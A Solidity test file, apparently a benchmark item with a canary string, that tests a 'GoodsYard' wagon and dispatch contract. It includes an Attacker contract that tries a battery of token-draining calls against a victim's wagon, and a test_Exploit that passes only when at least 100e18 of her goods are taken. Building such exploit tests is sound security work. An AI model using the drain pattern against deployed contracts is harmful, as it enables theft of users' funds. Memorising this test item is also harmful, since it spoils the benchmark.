// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.24;

import "./GoodsYard.sol";

// assay-canary-ce20dc3f-ecd8-45a0-82f2-a0e21fb902e6

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coal is IGoods {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Stores goods of whoever calls.
contract Depot {
    mapping(address => uint256) public stored;
    mapping(address => uint256) public paid;

    function store(Coal coal, uint256 amount) external payable returns (uint256) {
        coal.transferFrom(msg.sender, address(this), amount);
        paid[msg.sender] += msg.value;
        return stored[msg.sender] += amount;
    }
}

contract Attacker {
    GoodsYard internal yard;
    Coal internal coal;

    constructor(GoodsYard yard_, Coal coal_) {
        (yard, coal) = (yard_, coal_);
    }

    function _send(address depot, bytes memory waybill) private {
        GoodsYard.Leg[] memory legs = new GoodsYard.Leg[](1);
        legs[0] = GoodsYard.Leg(depot, 0, waybill);
        try yard.dispatch(legs) {} catch {}
    }

    function run(address ana, address depot) external {
        Wagon mine = yard.couple();
        Wagon hers = yard.wagonOf(ana);
        uint256 inWagon = coal.balanceOf(address(hers));
        bytes memory fromHer = abi.encodeCall(coal.transferFrom, (ana, address(this), 50e18));
        bytes memory fromHers = abi.encodeCall(coal.transferFrom, (address(hers), address(this), inWagon));
        bytes memory out = abi.encodeCall(coal.transfer, (address(this), inWagon));

        try yard.couple() {} catch {}
        _send(address(coal), fromHer);
        _send(address(coal), fromHers);
        _send(address(hers), abi.encodeCall(hers.carry, (address(coal), 0, out)));
        _send(address(mine), abi.encodeCall(mine.carry, (address(coal), 0, out)));
        _send(address(yard), abi.encodeCall(yard.unload, (coal, address(this))));
        _send(address(yard), abi.encodeCall(yard.drive, (ana, address(coal), out)));
        try new GoodsYard().dispatch(new GoodsYard.Leg[](0)) {} catch {}

        try yard.drive(ana, address(coal), out) {} catch {}
        try yard.drive(ana, depot, out) {} catch {}
        yard.appoint(address(this), address(coal), true);
        try yard.drive(ana, address(coal), out) {} catch {}
        try yard.drive(address(this), address(coal), fromHer) {} catch {}
        try yard.appoint(address(this), address(yard), true) {} catch {}

        try yard.load(coal, 50e18) {} catch {}
        try yard.load(IGoods(address(0xDEAD)), 50e18) {} catch {}
        try yard.unload(coal, address(this)) {} catch {}
        try hers.carry(address(coal), 0, abi.encodeCall(coal.approve, (address(this), inWagon))) {} catch {}
        try hers.carry(address(coal), 0, out) {} catch {}
    }
}

/// Goods that answer "false" where others revert.
contract Polite is IGoods {
    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant ANA = address(0xA7A);
    address internal constant DRIVER = address(0xD21);
    Coal internal coal;
    Depot internal depot;
    GoodsYard internal yard;
    Attacker internal tramp;

    function setUp() public {
        coal = new Coal();
        depot = new Depot();
        yard = new GoodsYard();
        tramp = new Attacker(yard, coal);
        coal.mint(ANA, 200e18);
        vm.prank(ANA);
        yard.couple();
        vm.prank(ANA);
        coal.approve(address(yard), type(uint256).max);
        vm.prank(ANA);
        yard.load(coal, 120e18);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(yard).call(data);
    }

    function test_Regular() public {
        address wagon = address(yard.wagonOf(ANA));
        require(coal.balanceOf(wagon) == 120e18, "loaded");
        vm.deal(ANA, 3 ether);
        vm.prank(ANA);
        yard.load{value: 3 ether}(coal, 0);

        GoodsYard.Leg[] memory legs = new GoodsYard.Leg[](2);
        legs[0] = GoodsYard.Leg(address(coal), 0, abi.encodeCall(coal.approve, (address(depot), 100e18)));
        legs[1] = GoodsYard.Leg(address(depot), 1 ether, abi.encodeCall(depot.store, (coal, 70e18)));
        vm.prank(ANA);
        bytes[] memory receipts = yard.dispatch(legs);
        require(abi.decode(receipts[1], (uint256)) == 70e18 && depot.paid(wagon) == 1 ether, "delivered");

        bytes memory more = abi.encodeCall(depot.store, (coal, 20e18));
        vm.prank(DRIVER);
        require(!_try(abi.encodeCall(yard.drive, (ANA, address(depot), more))), "no driver");
        vm.prank(ANA);
        yard.appoint(DRIVER, address(depot), true);
        vm.prank(DRIVER);
        yard.drive(ANA, address(depot), more);
        vm.prank(DRIVER);
        require(!_try(abi.encodeCall(yard.drive, (ANA, address(coal), ""))), "another depot");
        require(depot.stored(wagon) == 90e18, "driven");

        legs[1] = GoodsYard.Leg(address(0xDEAD), 0, more);
        vm.prank(ANA);
        require(!_try(abi.encodeCall(yard.dispatch, (legs))), "nobody there");
        vm.prank(ANA);
        require(!_try(abi.encodeCall(yard.load, (IGoods(address(0xDEAD)), 1))), "no goods");
        vm.prank(ANA);
        yard.unload(coal, ANA);
        vm.prank(ANA);
        yard.unload(IGoods(address(0)), ANA);
        require(coal.balanceOf(ANA) == 110e18 && ANA.balance == 2 ether && coal.balanceOf(wagon) == 0, "unloaded");
        vm.prank(ANA);
        require(!_try(abi.encodeCall(yard.couple, ())), "one wagon");
    }

    /// What ana has herself and in her wagon.
    function honestGoods() public view returns (uint256) {
        return coal.balanceOf(ANA) + coal.balanceOf(address(yard.wagonOf(ANA)));
    }

    function test_RefusesWhatADepotRefuses() public {
        GoodsYard.Leg[] memory legs = new GoodsYard.Leg[](1);
        legs[0] = GoodsYard.Leg(address(coal), 0, abi.encodeCall(coal.mint, (ANA, 1e18)));
        vm.prank(ANA);
        vm.expectRevert("minter only");
        yard.dispatch(legs);

        Polite polite = new Polite();
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(GoodsYard.NotMoved.selector, address(polite)));
        yard.load(polite, 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(GoodsYard.NotMoved.selector, address(polite)));
        yard.unload(polite, ANA);
    }

    function test_RefusesTooManyLegs() public {
        vm.prank(ANA);
        vm.expectRevert(GoodsYard.TooManyLegs.selector);
        yard.dispatch(new GoodsYard.Leg[](9));
    }

    function test_RefusesWhoHasNoWagon() public {
        vm.prank(DRIVER);
        vm.expectRevert(abi.encodeWithSelector(GoodsYard.NoWagon.selector, DRIVER));
        yard.dispatch(new GoodsYard.Leg[](0));
    }

    function test_RefusesTheYardAsADepot() public {
        vm.prank(ANA);
        vm.expectRevert(GoodsYard.OwnDepot.selector);
        yard.appoint(DRIVER, address(yard), true);
    }

    function exploit() public {
        tramp.run(ANA, address(depot));
    }

    function test_Exploit() public {
        uint256 before = honestGoods();
        exploit();
        require(before - honestGoods() >= 100e18, "goods are all there");
    }

    function target() public view returns (address) {
        return address(yard);
    }

    function attacker() public view returns (address) {
        return address(tramp);
    }
}
